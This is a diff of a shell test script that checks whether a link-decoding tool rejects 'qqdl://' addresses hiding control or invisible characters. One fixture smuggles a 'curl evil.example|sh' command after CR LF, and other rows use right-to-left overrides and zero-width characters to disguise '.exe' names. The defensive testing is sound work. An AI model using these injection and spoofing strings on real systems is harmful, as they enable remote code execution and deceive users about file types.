@@ -130,18 +130,28 @@ expect "batch bad kind" 2 "" "unknown link kind 'ed2k'" -- "$cli" batch ed2k
 # alike, the character named.
 q() { printf 'qqdl://%s' "$(printf "$1" | base64 -w0)"; }
 # (link reads a link's bytes in code page 936, as the window does: there they are controls.)
+# (Its bytes count as UTF-8 too, whatever reading made the text: code page 936 reads most of
+# these as Chinese.)
 while IFS='#' read -r name payload named; do
-  [[ $named == U+00[01]? ]] &&
-    expect "link refuses $name" 1 "" "$named" -- "$cli" link decode "$(q "$payload")"
-  expect "batch refuses $name" 1 "" "standard input:1: the address holds the" -- \
-    bash -c "printf '%s\n' '$(q "$payload")' | '$cli' batch decode --charset utf-8"
+  expect "link refuses $name" 1 "" "$named" -- "$cli" link decode "$(q "$payload")"
+  for charset in utf-8 auto 936; do
+    expect "batch refuses $name, $charset" 1 "" "standard input:1: the address holds the" -- \
+      bash -c "printf '%s\n' '$(q "$payload")' | '$cli' batch decode --charset $charset"
+  done
 done <<'ROWS'
 a command after CR LF#http://a/\r\ncurl evil.example|sh\r\n#U+000D
 a right-to-left override#http://a/\xe4\xb8\x8b\xe8\xbd\xbd\xe2\x80\xaegpj.exe#U+202E
+a right-to-left override alone#http://a.example/\xe2\x80\xaegpj.exe#U+202E
 a line separator#http://a/b\xe2\x80\xa8c#U+2028
 a next-line character#http://a/b\xc2\x85c#U+0085
+direction marks around a word#http://a.example/\xe2\x80\x8finvoice\xe2\x80\x8e.pdf#U+200F
 a byte-order mark inside#http://a/\xef\xbb\xbfb#U+FEFF
+a word joiner#http://a/b\xe2\x81\xa0c.zip#U+2060
+a zero-width space#http://a/b\xe2\x80\x8bc.zip#U+200B
+a Hangul filler#http://a/\xe3\x85\xa4c.exe#U+3164
 ROWS
+expect "batch keeps a GBK name whose bytes hold a UTF-8 C1 control by chance" 0 "http://a/新聞.zip" "" -- \
+  bash -c "printf '%s\n' '$(q 'http://a/\xd0\xc2\xc2\x84.zip')' | '$cli' batch decode"
 expect "link refuses a direction mark in a plain address" 1 "" "U+202E at position 10" -- \
   "$cli" link decode $'http://a/\u202egpj.exe'
 expect "link names the control character's position" 1 "" "U+000D at position 10" -- \
